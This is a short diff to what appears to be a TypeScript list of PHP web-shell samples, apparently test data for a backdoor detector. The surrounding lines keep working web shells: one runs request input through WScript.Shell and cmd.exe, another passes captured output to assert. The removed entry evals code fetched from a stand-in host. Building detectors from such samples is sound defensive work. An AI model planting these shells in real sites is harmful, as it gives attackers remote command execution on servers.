@@ -132,10 +132,6 @@ const backdoors: [string, string][] = [
     `<?php\n$w = new COM('WScript.Shell');\n$e = $w->exec('cmd.exe /c ' . $_GET['c']);\necho $e->StdOut->ReadAll();\n`,
   ],
   [
-    'code cut from the tail of an image on another host',
-    `<?php\neval(trim(substr(file_get_contents('http://example.invalid/k.gif'), 293930)));\n`,
-  ],
-  [
     "the page's output captured by ob_start's closure into a global, then asserted",
     `<?php\n$e = '';\nob_start(function ($c, $d) { global $e; $e = $c; });\necho $_REQUEST['p'];\nob_end_flush();\nassert($e);\n`,
   ],
